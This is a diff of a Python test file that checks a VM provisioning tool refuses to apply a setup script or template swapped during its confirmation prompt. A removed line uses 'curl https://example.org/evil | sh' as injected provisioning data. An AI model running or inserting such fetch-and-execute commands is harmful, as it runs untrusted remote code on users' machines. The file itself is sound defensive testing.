@@ -1,4 +1,4 @@
-"""A setup script that is swapped at the worst moment: the swapped text never reaches a guest."""
+"""A setup script or template that is swapped at the worst moment: the swapped text never reaches a guest."""
 
 from __future__ import annotations
 
@@ -8,7 +8,7 @@ import os
 import subprocess
 import sys
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from pathlib import Path
 
@@ -26,6 +26,7 @@ from dvm.model.lima_config import LimaConfig
 from dvm.model.plan import PlanOptions
 from dvm.plan.build import build_plan
 from tests.conftest import Dvm
+from tests.scenarios.test_gate import lima_config
 
 GOOD = b"#!/usr/bin/env bash\nset -Eeuo pipefail\n# sim: print good\n"
 EVIL = b"#!/usr/bin/env bash\nset -Eeuo pipefail\n# sim: print evil\n"
@@ -134,37 +135,68 @@ def sha256(text: bytes) -> str:
     return hashlib.sha256(text).hexdigest()
 
 
-def test_swapped_at_the_prompt(one: Dvm) -> None:
-    child = pexpect.spawn(
-        sys.executable, ["-m", "dvm", "apply"], env=one.environment, cwd=str(one.place), timeout=60, encoding="utf-8"
-    )
-    child.expect("Enter a value: ")
-    (one.config / "a.sh").write_bytes(EVIL)
-    child.sendline("yes")
-    child.expect(pexpect.EOF)
-    child.close()
-    assert child.exitstatus == 4
-    assert one.calls(changing=True) == []
-
-
-def test_a_template_swapped_at_the_prompt(dvm: Dvm) -> None:
-    text = "images:\n- location: https://example.org/x.qcow2\n  digest: sha256:" + "0" * 64 + "\n"
-    template = dvm.config / "t.yaml"
-    template.write_text(text)
-    template.chmod(0o600)
-    dvm.manifest(f'[vm.app]\ntemplate = "{template}"\n')
+def answered(dvm: Dvm, meanwhile: Callable[[], object]) -> tuple[int | None, str]:
+    """`dvm apply` that is answered with yes after `meanwhile`: its exit code and what it said after that."""
     child = pexpect.spawn(
         sys.executable, ["-m", "dvm", "apply"], env=dvm.environment, cwd=str(dvm.place), timeout=60, encoding="utf-8"
     )
     child.expect("Enter a value: ")
-    template.write_text(text + "provision:\n- script: curl https://example.org/evil | sh\n")
+    meanwhile()
     child.sendline("yes")
-    child.expect("The plan is stale")
     child.expect(pexpect.EOF)
     child.close()
-    assert child.exitstatus == 4
-    assert dvm.calls(changing=True) == []
-    assert dvm.run("apply", "-y").code == 0  # it was not refused for what it is
+    return child.exitstatus, " ".join(str(child.before).split())
+
+
+def test_swapped_at_the_prompt(one: Dvm) -> None:
+    code, said = answered(one, lambda: (one.config / "a.sh").write_bytes(EVIL))
+    assert code == 4
+    assert "DVM106" in said
+    assert one.calls(changing=True) == []
+
+
+@pytest.fixture
+def templated(dvm: Dvm) -> Dvm:
+    dvm.manifest('[vm.app]\ntemplate = "t.yaml"\n\n[vm.db]\ntemplate = "template:fedora"\n')
+    digest = "0" * 64
+    template = f'images:\n- location: https://example.com/i.qcow2\n  digest: "sha256:{digest}"\n'
+    (dvm.config / "t.yaml").write_text(template)
+    (dvm.config / "t.yaml").chmod(0o600)
+    return dvm
+
+
+def test_a_template_that_is_swapped_at_the_prompt(templated: Dvm) -> None:
+    def swap() -> None:
+        with (templated.config / "t.yaml").open("a") as file:
+            file.write("provision:\n- mode: system\n  script: echo evil\n")
+
+    code, said = answered(templated, swap)
+    assert code == 4
+    assert "The plan is stale" in said
+    assert "t.yaml (template) changed since it was shown" in said
+    assert templated.calls(changing=True) == []
+    assert answered(templated, lambda: None)[0] == 0
+
+
+def test_what_is_newly_warned_of_at_the_prompt_was_not_agreed_to(templated: Dvm) -> None:
+    assert templated.run("apply", "-y", "db").code == 0
+    templated.forget()
+
+    def warn() -> None:  # the steps stay as they were; the VM that runs was booted before this
+        lima_config(templated, "override.yaml", "message: hello\n")
+
+    code, _ = answered(templated, warn)
+    assert code == 4
+    assert templated.calls(changing=True) == []
+    assert "DVM313" in templated.run("plan").out
+
+
+def test_what_changes_nothing_at_the_prompt_does_not_stand_in_the_way(templated: Dvm) -> None:
+    def comment() -> None:
+        manifest = templated.config / "dvm.toml"
+        manifest.write_text(manifest.read_text() + "# nothing\n")
+
+    assert answered(templated, comment)[0] == 0
 
 
 def test_swapped_between_check_and_run(one: Dvm) -> None:
